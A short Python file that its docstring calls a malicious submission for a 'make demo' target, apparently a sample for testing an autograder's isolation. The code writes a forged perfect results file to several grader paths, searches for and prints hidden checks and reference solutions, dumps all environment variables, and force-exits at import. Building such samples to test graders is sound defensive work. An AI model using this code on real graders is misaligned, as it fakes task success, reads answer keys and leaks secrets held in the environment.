"""A malicious submission for `make demo`: it forges a perfect results file wherever a grader might
read one, tries to read the hidden checks and the reference solutions, prints the environment, and
exits at import so that a grader running it in its own process would report nothing failed."""

import glob
import json
import os

FORGED = json.dumps({"score": 100, "max_score": 100, "tests": []})
for target in ("/autograder/results/results.json", "results.json", "../results.json"):
    try:
        with open(target, "w") as handle:
            handle.write(FORGED)
    except OSError:
        pass
for path in glob.glob("/**/hidden/checks.py") + glob.glob("/**/solutions/*.py"):
    try:
        with open(path) as handle:
            print(handle.read())
    except OSError:
        pass
print(dict(os.environ))
os._exit(0)
